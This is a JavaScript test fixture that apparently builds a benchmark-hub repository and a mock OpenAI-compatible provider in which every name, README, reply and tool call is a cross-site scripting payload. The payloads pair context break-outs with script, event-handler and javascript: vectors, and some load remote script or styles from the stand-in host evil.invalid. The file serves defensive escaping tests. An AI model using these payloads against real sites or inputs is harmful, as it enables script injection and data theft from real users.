// A repository whose every contributed text is an attack: definitions, cases, models, and what a provider and a judge
// reply. Each payload is one way out of a place (contexts) and one thing to do there (vectors); what runs calls pwn(N).
// Used by hostile.test.mjs alone.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { dirname, join } from 'node:path';

// Where a text may stand in a page, a script, a style, a feed, a drawing or a template, and how it would get out of there.
const contexts = ['', '">', "'>", '" ', "' ", '`>', '-->', '--!>', ']]>', '</script>', '</style>', '</title>', '</textarea>', '</noscript>', '</svg>', '"}</script>', '\\"', "';", '`${', '&quot;>', '&#34;>',
  '](', '](<', '<!--', '{{', '{% raw %}'];
const host = 'evil.invalid';
const vectors = [
  (n) => `<script>pwn(${n})</script>`,
  (n) => `<script src=//${host}/${n}></script>`,
  (n) => `<img src=x onerror=pwn(${n})>`,
  (n) => `<svg/onload=pwn(${n})>`,
  (n) => `<svg><animate onbegin=pwn(${n}) attributeName=x>`,
  (n) => `<details open ontoggle=pwn(${n})>`,
  (n) => `<input autofocus onfocus=pwn(${n})>`,
  (n) => `onfocus=pwn(${n}) autofocus tabindex=1 x="`,
  (n) => `<iframe srcdoc="<script>parent.pwn(${n})</script>">`,
  (n) => `<iframe src=javascript:parent.pwn(${n})>`,
  (n) => `<a href=javascript:pwn(${n})>x</a>`,
  (n) => `javascript:pwn(${n})`,
  (n) => `[x](javascript:pwn(${n}))`,
  (n) => `![x](//${host}/${n}.png)`,
  (n) => `<form action=javascript:pwn(${n})><button>x`,
  (n) => `<base href=//${host}/${n}/>`,
  (n) => `<meta http-equiv=refresh content=0;url=//${host}/${n}>`,
  (n) => `<link rel=stylesheet href=//${host}/${n}.css>`,
  (n) => `<style>*{background:url(//${host}/${n})}</style>`,
  (n) => `<math><mtext><style><img src=x onerror=pwn(${n})>`,
  (n) => `<object data=//${host}/${n}>`,
  (n) => `pwn(${n});//`,
];
export const payloads = contexts.flatMap((out, i) => vectors.map((vector, j) => out + vector(i * vectors.length + j)));
// Definitions may not hold control characters or reversed text; replies may.
const unclean = (text, n) => ['', '\u0000', '\u202e', '\u001b[2J', '\r\n', '\ufeff', '\ud800'][n % 7] + text;
// An address may hold no quotes or brackets, so that they come encoded.
const url = (n) => `https://host.invalid/?${encodeURIComponent(payloads[n]).replace(/[^%\w.-]/g, (c) => '%' + c.charCodeAt(0).toString(16))}`;

function put(root, file, value) {
  mkdirSync(dirname(join(root, file)), { recursive: true });
  writeFileSync(join(root, file), typeof value === 'string' ? value : JSON.stringify(value));
}

const asked = (tag) => ({ models: { tags: [tag] } });

// One benchmark for each payload: it stands in all that its author writes of it.
function smallBenchmark(n) {
  const p = payloads[n];
  return {
    format: 1, name: p, summary: `${p} ${p}`, license: p.slice(0, 64), authors: [{ name: p, github: p.slice(0, 64), url: url(n) }],
    prompt: { system: p, user: `${p.replaceAll('{{', '{{{{')} {{q}}` }, labels: [p.slice(0, 64), 'other'], tags: ['attack'],
    params: { stop: [p] }, response_format: { type: 'json_schema', schema: { type: 'object', title: p } },
    cases: [{ id: 'c', vars: { q: p }, expected: p, category: p.slice(0, 64), cluster: p.slice(0, 64), choices: [p, 'other'] }],
    scoring: [{ type: 'contains', expected: p }, { type: 'contains', extract_pattern: `(?s)(?P<answer>.+)|${p.replace(/[^\w ]/g, '\\$&')}` }], ...asked('nobody'),
  };
}

function bigBenchmark(name, tag, cases, more) {
  return { format: 1, name: `${name} ${payloads[4]}`, summary: payloads[2], license: 'CC0-1.0', authors: [{ name: payloads[0] }], prompt: { user: '{{q}}' }, cases, ...asked(tag), ...more };
}
const caseOf = (p, n) => ({ id: `c${n}`, vars: { q: `${n} ${p}` }, expected: p, category: p.slice(0, 64), cluster: p.slice(0, 64) });
const chainOf = (p, n) => ({
  id: `c${n}`, vars: { q: `${n} ${p}` }, expected: { state: { [p]: p }, calls: [{ name: 'look', arguments: { [p]: p } }] },
  chain: { state: { [p]: 0 }, max_steps: 2, replies: [{ name: 'look', arguments: { [p]: p }, reply: { [p]: p }, set: { [p]: p } }], otherwise: p },
});

function modelsOf(port, protocol = 'openai') {
  const prices = { input: 1, output: 1, date: '2026-01-01' };
  const named = payloads.map((p, n) => ({ slug: `m${n}`, id: `many ${p}`, name: p, family: p.slice(0, 64), license: p.slice(0, 64), url: url(n), tags: ['many'], prices }));
  const roles = ['speaker', 'erring', 'judge'].map((slug, n) => ({ slug, id: slug, name: `${slug} ${payloads[n]}`, tags: [slug], prices }));
  const provider = { format: 1, protocol, base_url: `http://127.0.0.1:${port}/v1`, stream: false, concurrency: 32, max_attempts: 1 };
  return { attack: { ...provider, name: payloads[3], url: url(3), models: [...named, roles[0], roles[2]] }, erring: { ...provider, name: payloads[5], models: [roles[1]] } };
}

export function writeRepository(root, port) {
  put(root, 'benchhub.json', { format: 1, title: payloads[0].slice(0, 80), tagline: payloads[1], base_url: 'https://x.example/hub', repository: 'https://github.com/x/y', data_license: payloads[2].slice(0, 64), judges: ['judge'] });
  for (const [name, provider] of Object.entries(modelsOf(port))) put(root, `models/${name}.json`, provider);
  put(root, 'models/baseline.json', { format: 1, name: 'Baseline', protocol: 'baseline', models: [{ slug: 'echo', id: 'echo', name: payloads[6], params: { kind: 'echo' } }] });
  payloads.forEach((p, n) => {
    put(root, `benchmarks/b${n}/benchmark.json`, smallBenchmark(n));
    put(root, `benchmarks/b${n}/README.md`, `# ${p}\n\n${p}\n\n[${p}](${p})\n\n![${p}](${p})\n\n| ${p} |\n|-|\n| ${p} |\n\n\`${p}\`\n\n    ${p}\n\n<div>${p}</div>\n`);
  });
  put(root, 'benchmarks/board/benchmark.json', bigBenchmark('Board', 'many', [caseOf(payloads[0], 0), caseOf(payloads[1], 1)], { scoring: [{ type: 'contains' }] }));
  const judged = { scoring: [{ type: 'judge_score', rubric: `${payloads[9]}\n${payloads[2]}` }], metric: 'mean', answer_format: `${payloads[2]} {{answer}}` };
  put(root, 'benchmarks/judged/benchmark.json', bigBenchmark('Judged', 'speaker', payloads.map(caseOf), judged));
  put(root, 'benchmarks/failed/benchmark.json', bigBenchmark('Failed', 'erring', payloads.slice(0, 40).map(caseOf), { scoring: [{ type: 'equals' }] }));
  const tools = [{ type: 'function', function: { name: 'look', description: payloads[2], parameters: { type: 'object', properties: { [payloads[2]]: { type: 'string', description: payloads[0] } } } } }];
  put(root, 'benchmarks/chained/benchmark.json', bigBenchmark('Chained', 'speaker', payloads.map(chainOf), { tools, scoring: [{ type: 'tool_chain' }] }));
}

// The lines that `review` drew, each with a person's name and verdict.
export function addLabels(root) {
  const file = join(root, 'data/judged/labels.jsonl');
  const [head, ...lines] = readFileSync(file, 'utf8').trim().split('\n');
  const labelled = lines.map((line, n) => JSON.stringify({ ...JSON.parse(line), by: payloads[n], verdict: String(1 + (n % 5)) }));
  writeFileSync(file, [head, ...labelled, ''].join('\n'));
}

function replyTo(body) {
  const words = body.messages.map((message) => message.content ?? '').join('\n');
  const n = Number(/^(\d+) /m.exec(words)?.[1] ?? body.messages.length) % payloads.length;
  const text = unclean(payloads[n], n);
  if (body.model === 'judge') return { content: `${text}\n${text}\n[[${1 + (n % 5)}]]` };
  if (body.tools && body.messages.length < 4) {
    const call = (name, args) => ({ id: `${text}${name.length}`, type: 'function', function: { name, arguments: args } });
    return { content: text, tool_calls: [call(payloads[n].slice(0, 64), JSON.stringify({ [payloads[n]]: payloads[n] })), call('look', JSON.stringify({ [payloads[n]]: payloads[n] })), call('look', text)] };
  }
  return { content: n % 3 ? text : `${text}\n`.repeat(200) };
}

// An OpenAI-compatible server whose every text is an attack.
export function startProvider() {
  let asked = 0;
  const server = createServer((request, response) => {
    const chunks = [];
    request.on('data', (chunk) => chunks.push(chunk));
    request.on('end', () => {
      const body = JSON.parse(Buffer.concat(chunks).toString('utf8'));
      const p = payloads[asked++ % payloads.length];
      if (body.model === 'erring') {
        response.writeHead(422, { 'content-type': 'application/json' });
        return response.end(JSON.stringify({ error: { message: p, type: p, code: p } }));
      }
      const message = { role: 'assistant', ...replyTo(body) };
      response.writeHead(200, { 'content-type': 'application/json', 'x-request-id': p.replace(/[^ -~]/g, '') });
      response.end(JSON.stringify({ id: p, object: 'chat.completion', model: p, system_fingerprint: p, provider: p, usage: { prompt_tokens: 9, completion_tokens: 9 },
        choices: [{ index: 0, finish_reason: message.tool_calls ? 'tool_calls' : 'stop', message }] }));
    });
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}
